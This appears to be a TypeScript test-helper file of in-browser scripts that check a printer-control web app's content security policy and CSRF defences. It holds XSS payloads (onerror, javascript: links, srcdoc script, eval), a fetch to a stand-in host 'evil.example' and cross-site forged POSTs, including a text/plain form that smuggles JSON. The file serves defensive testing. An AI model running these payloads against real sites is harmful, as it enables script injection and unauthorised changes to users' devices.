/** Programs that the tests run in Chromium: what faults of the page and other websites would do. */

/** As a fault of the page would do it. Returns the directives of the policy that have refused something. */
export const insertMarkup = `(async () => {
  const refused = []
  document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective))
  const script = document.createElement('script')
  script.textContent = 'window.hacked = "script"'
  const holder = document.createElement('div')
  holder.innerHTML =
    '<img src=x onerror="window.hacked=1"><a href="javascript:void(window.hacked=2)">x</a><i style="color: red">y</i>' +
    '<iframe srcdoc="<script>parent.hacked=3</script>"></iframe><img src="https://evil.example/?stolen">'
  document.body.append(script, holder)
  holder.querySelector('a').click()
  // Later, since a script of the test itself may use eval.
  setTimeout(() => window['eval']('window.hacked = 4'))
  await fetch('https://evil.example/?stolen').catch(() => {})
  await new Promise(resolve => setTimeout(resolve, 500))
  return refused
})()`

/** Everything that a website can send without being asked: simple requests, forms, GETs, streams. */
export const forgeries = (api: string) => `(async () => {
  const api = '${api}'
  const order = '{"auto_start":false}'
  const post = (path, init) =>
    fetch(api + path, { method: 'POST', credentials: 'include', body: order, ...init }).catch(() => {})
  await post('call/set_config', { mode: 'no-cors', headers: { 'content-type': 'text/plain' } })
  await post('call/unregister_printer', { mode: 'no-cors', body: '{"force":true}' })
  await post('logout', { mode: 'no-cors' })
  // With headers that need the server's leave.
  await post('call/set_config', { headers: { 'content-type': 'application/json', 'x-lmnt-csrf': 'guessed' } })
  await fetch(api + 'session', { credentials: 'include' }).catch(() => {})
  await fetch(api + 'call/cancel_job', { mode: 'no-cors', credentials: 'include' }).catch(() => {})
  const form = document.createElement('form')
  Object.assign(form, { method: 'POST', action: api + 'call/set_config', enctype: 'text/plain', target: 'sink' })
  const field = document.createElement('input')
  Object.assign(field, { name: '{"auto_start":false,"x":"', value: '"}' })
  form.append(field)
  const sink = document.createElement('iframe')
  sink.name = 'sink'
  document.body.append(sink, form)
  form.submit()
  const stream = new EventSource(api + 'events', { withCredentials: true })
  await new Promise(resolve => stream.addEventListener('error', resolve))
  stream.close()
  await new Promise(resolve => setTimeout(resolve, 500))
})()`

/** Calls the methods with the value of the page's own session. Returns "METHOD STATUS". */
export const callAll = (methods: string[], printer: string) => `(async () => {
  const { csrf } = await (await fetch('api/session')).json()
  const headers = { 'content-type': 'application/json', 'x-lmnt-csrf': csrf }
  const answers = []
  for (const method of ${JSON.stringify(methods)}) {
    const answer = await fetch('api/call/' + method + '?printer=${printer}', { method: 'POST', headers, body: '{}' })
    answers.push(method + ' ' + answer.status)
  }
  return answers
})()`
